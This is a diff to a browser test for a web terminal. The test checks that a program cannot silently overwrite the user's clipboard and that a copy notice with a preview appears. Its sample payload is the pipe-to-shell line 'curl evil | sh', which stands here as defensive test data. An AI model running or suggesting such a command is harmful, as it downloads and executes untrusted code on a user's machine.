@@ -92,10 +92,10 @@ const offerShown = (p) => p.evaluate(() => !document.getElementById('copy-offer'
 // writes and says so every time. (On the old code the first assertion fails: it wrote silently.)
 test('a program cannot replace the clipboard silently: ask (the default), off, on', chromiumOnly, async () => {
   const { page } = fx;
-  assert.equal(await page.evaluate(() => window.tern.settings.get().remoteCopy), 'ask', 'ask is the default');
   await page.evaluate(() => navigator.clipboard.writeText('the person copied this'));
   await programCopies(page, 'curl evil | sh');
   assert.equal(await clipboardText(page), 'the person copied this', 'the program replaced the clipboard without asking');
+  assert.equal(await page.evaluate(() => window.tern.settings.get().remoteCopy), 'ask', 'ask is the default');
   await until(() => offerShown(page), { what: 'the notice asking to copy' });
   assert.equal(await page.textContent('#copy-offer-text'), 'The program wants to copy 14 characters:');
   assert.equal(await page.textContent('#copy-offer-preview'), 'curl evil | sh');
